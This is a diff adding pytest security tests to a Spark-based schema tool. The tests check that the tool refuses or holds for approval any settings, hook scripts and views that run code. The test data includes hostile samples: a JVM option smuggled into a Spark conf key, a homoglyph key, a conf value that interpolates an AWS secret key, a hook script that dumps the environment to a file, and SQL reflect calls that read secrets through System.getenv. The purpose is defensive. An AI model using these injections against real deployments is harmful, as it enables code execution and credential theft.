@@ -8,7 +8,9 @@ from outside the repository. None of these tests needs a JVM: every refusal come
 """
 from __future__ import annotations
 
+import hashlib
 import io
+import json
 import re
 import shutil
 from pathlib import Path
@@ -18,8 +20,10 @@ import git
 import pytest
 
 from schemaflow.apply.after import hook_environment
-from schemaflow.code_settings import APPROVAL_VARIABLE, approvals, code_settings, spark_code_reason
+from schemaflow.code_settings import APPROVAL_VARIABLE, approvals, code_settings, named_paths, spark_code_reason
 from schemaflow.errors import SchemaflowError
+from schemaflow.plan.view_code import step_code
+from schemaflow.workflow import load_plan
 from schemaflow.project import Settings, load_project
 from tests.gitrepos import commit, example_repo
 from tests.inprocess import schemaflow
@@ -133,6 +137,105 @@ def test_a_pull_request_cannot_point_apply_at_another_metastore(repo, monkeypatc
         assert f"schemaflow.yaml:5:10: spark.conf may not set {key}: it would point schemaflow elsewhere" in ran.err
 
 
+# What Spark's launcher (--conf K=V, split at the first "=") would make of each: a key other than the one written.
+@pytest.mark.parametrize("key", [
+    "spark.driver.extraJavaOptions=-XX:MaxMetaspaceSize=24m -XX:OnOutOfMemoryError='touch pwned' -Dx",
+    "spark.driver.defaultExtraClassPath=hive-jackson/*:x",
+    "spark.hadoop.hive.metastore.uris=thrift://elsewhere:9083,x",
+    "spark.sql.shuffle.partitions ",
+    "spark.sql.shuffle.partitiоns",  # a Cyrillic о
+])
+@pytest.mark.parametrize("where", ["project", "target"])
+def test_a_spark_key_spark_would_read_as_another_is_refused_where_it_is_written(repo, monkeypatch, key, where):
+    entry = f"{json.dumps(key)}: y"  # YAML reads a JSON string as written
+    if where == "project":
+        settings, position = EXAMPLE_SETTINGS.replace("conf: {", f"conf: {{{entry}, "), "schemaflow.yaml:5:10"
+    else:
+        settings = EXAMPLE_SETTINGS + f"targets:\n  prod:\n    spark:\n      conf:\n        {entry}\n"
+        position = "schemaflow.yaml:11:9"
+    project = merge(repo, settings)
+    monkeypatch.chdir(project)
+    monkeypatch.setenv(APPROVAL_VARIABLE, " ".join(c.id for c in code_settings((), {key: "y"})))
+    shown = repr(key)
+    for ran in (schemaflow("validate"), schemaflow("plan", "--base", "HEAD~1", "--head", "HEAD"),
+                schemaflow("apply", "--auto-approve", "--target", "prod") if where == "target" else
+                schemaflow("apply", "--auto-approve")):
+        assert ran.code == 1, ran.said
+        assert f"{position}: spark.conf key {shown} is not a Spark setting's name: Spark's launcher splits" in ran.err
+        assert "write the key alone" in ran.err
+    assert not (project / "pwned").exists() and not (project / ".schemaflow").exists()  # no JVM was started
+
+
+def test_a_spark_value_spark_fills_in_from_the_environment_needs_the_operator(repo, monkeypatch):
+    value = "https://${env:AWS_SECRET_ACCESS_KEY}.example.invalid"
+    project = merge(repo, EXAMPLE_SETTINGS.replace("conf: {", f"conf: {{spark.hadoop.fs.s3a.endpoint: '{value}', "))
+    text, html = reviewed(project, monkeypatch)
+    [code] = load_project(project, env={}).settings.code
+    assert code.reason == "Spark or Hadoop fills ${...} in with the job's environment or system properties"
+    assert f"approves id {code.id}" in text and code.id in html
+    status, said = apply_reviewed(project)
+    assert status == 1 and f"{APPROVAL_VARIABLE}='{code.id}'" in said
+
+
+NOTIFY = "#!/bin/sh\necho notified >> notified.txt\n"
+
+
+@pytest.mark.parametrize("setting, named, changed", [
+    ("after_apply: [sh scripts/notify.sh]\n", "scripts/notify.sh", "#!/bin/sh\ntouch pwned; env > stolen.txt\n"),
+    ("after_apply: [python3 -m scripts.notify]\n", "scripts/notify.py", "open('pwned', 'w')\n"),
+])
+def test_an_approval_covers_the_script_a_hook_runs_and_a_rewritten_script_needs_a_new_one(
+        repo, monkeypatch, setting, named, changed):
+    project = Path(repo.working_tree_dir or "")
+    (project / "scripts").mkdir()
+    (project / named).write_text(NOTIFY)
+    merge(repo, EXAMPLE_SETTINGS + setting)
+    [approved] = load_project(project, env={}).settings.code
+    assert dict(approved.files) == {named: "sha256:" + hashlib.sha256(NOTIFY.encode()).hexdigest()}
+    assert f"runs {named} as it is now" in approved.describe()
+
+    (project / named).write_text(changed)  # a pull request that touches only the script
+    commit(repo, "tidy the notification script")
+    monkeypatch.setenv(APPROVAL_VARIABLE, approved.id)
+    text, html = reviewed(project, monkeypatch)
+    [now] = load_project(project, env={}).settings.code
+    assert now.id != approved.id
+    assert text.splitlines()[0] == "1 step on 1 setting, 0 destructive, 1 hazardous."
+    assert f"~ 1. change {named}, which schemaflow.yaml runs as code" in text
+    assert f"hazard: runs code in the apply job: {now.describe()}" in text
+    assert f"change {named}, which schemaflow.yaml runs as code" in html and now.id in html
+    status, said = apply_reviewed(project)
+    assert status == 1 and f"{APPROVAL_VARIABLE}='{now.id}'" in said and "nothing was run" in said
+    assert not (project / "pwned").exists()
+
+
+def test_an_approval_covers_the_jars_a_class_path_names_folder_and_all(repo, monkeypatch):
+    project = Path(repo.working_tree_dir or "")
+    (project / "tools").mkdir()
+    (project / "tools" / "udfs.jar").write_bytes(b"PK\x03\x04 approved")
+    merge(repo, EXAMPLE_SETTINGS.replace("conf: {", 'conf: {spark.driver.extraClassPath: "tools/*", '))
+    [approved] = load_project(project, env={}).settings.code
+    assert [path for path, _ in approved.files] == ["tools/udfs.jar"]
+    (project / "tools" / "more.jar").write_bytes(b"PK\x03\x04 another")  # a jar added beside it
+    commit(repo, "a second jar")
+    monkeypatch.setenv(APPROVAL_VARIABLE, approved.id)
+    text, _ = reviewed(project, monkeypatch)
+    assert "~ 1. add tools/more.jar, which schemaflow.yaml runs as code" in text
+    status, said = apply_reviewed(project)
+    assert status == 1 and approved.id not in said
+
+
+def test_which_paths_a_setting_names():
+    assert named_paths("sh scripts/notify.sh --to 'ops team'", command=True) == (
+        "ops", "ops team", "scripts/notify.sh", "sh", "team")
+    assert set(named_paths("sh ./scripts/notify.sh --config=conf/n.yaml", command=True)) >= {
+        "scripts/notify.sh", "conf/n.yaml"}
+    assert "tools/x.py" in named_paths("python -m tools.x", command=True)
+    assert set(named_paths("lib/*:file:jars/a.jar,/opt/abs.jar,https://h/x.jar,../up.jar")) >= {"lib", "jars/a.jar"}
+    assert not {"/opt/abs.jar", "../up.jar", "https://h/x.jar"} & set(named_paths("/opt/abs.jar,../up.jar,https://h/x.jar"))
+    assert "agent.jar" in named_paths("-javaagent:agent.jar=opts -Dx=1")
+
+
 def test_a_targets_spark_settings_are_checked_as_the_projects(repo, monkeypatch):
     project = merge(repo, EXAMPLE_SETTINGS + "targets:\n  prod:\n    spark:\n      conf:\n"
                                              "        spark.hadoop.hive.metastore.uris: thrift://elsewhere:9083\n")
@@ -157,7 +260,7 @@ def test_spark_refuses_to_start_with_unapproved_code_and_starts_with_approved():
     with pytest.raises(SchemaflowError, match="run code when Spark starts, and the operator has not approved"):
         spark_session(settings)
     [jar] = settings.code
-    assert jar.setting == "spark.conf spark.jars" and len(jar.id) == 12
+    assert jar.setting == "spark.conf spark.jars" and len(jar.id) == 32  # 128 bits: no collision is searched
 
 
 def test_which_spark_settings_run_code():
@@ -287,6 +390,34 @@ def test_a_view_that_declares_its_java_calls_may_make_them_and_strings_are_not_c
         "view: retail.reach\njava_functions: [reflect]\nsql: SELECT java_method('a', 'b') AS x FROM retail.orders\n")
     ran = schemaflow("--project", str(tmp_path), "validate")
     assert ran.code == 1 and "'java_functions: [java_method]'" in ran.err
+
+
+def test_a_view_that_calls_java_needs_the_operator_whatever_its_file_declares(repo, monkeypatch):
+    project = Path(repo.working_tree_dir or "")
+    (project / "schemas/retail/reach.yaml").write_text(
+        "view: retail.reach\njava_functions: [reflect]\n"
+        "sql: SELECT reflect('java.lang.System', 'getenv', 'AWS_SECRET_ACCESS_KEY') AS k FROM retail.orders\n")
+    commit(repo, "a harmless-looking view")
+    text, html = reviewed(project, monkeypatch)
+    [step] = [s for s in load_plan(project / "reviewed.json").steps if s.object == "retail.reach"]
+    [code] = step_code(step)
+    assert code.setting == "view retail.reach" and "reflect('java.lang.System', 'getenv'" in code.value
+    assert text.splitlines()[0] == "1 step on 1 object, 0 destructive, 1 hazardous."
+    assert (f"hazard: runs code in the apply job: view retail.reach calls Java by name (reflect) in every engine that "
+            f"reads it, apply's Spark first; apply refuses it until the operator approves id {code.id}") in text
+    assert "⚠" in html and code.id in html
+    status, said = apply_reviewed(project)
+    assert status == 1 and "the plan has views that run code in apply, and the operator has not approved" in said
+    assert f"{APPROVAL_VARIABLE}='{code.id}'" in said
+    # The same view with another query is another id: an approval does not carry over.
+    (project / "schemas/retail/reach.yaml").write_text(
+        "view: retail.reach\njava_functions: [reflect]\n"
+        "sql: SELECT reflect('java.lang.Runtime', 'getRuntime') AS k FROM retail.orders\n")
+    commit(repo, "another call")
+    monkeypatch.setenv(APPROVAL_VARIABLE, code.id)
+    reviewed(project, monkeypatch)
+    status, said = apply_reviewed(project)
+    assert status == 1 and "java.lang.Runtime" in said and code.id not in said
 
 
 def laughs(name: str) -> str:
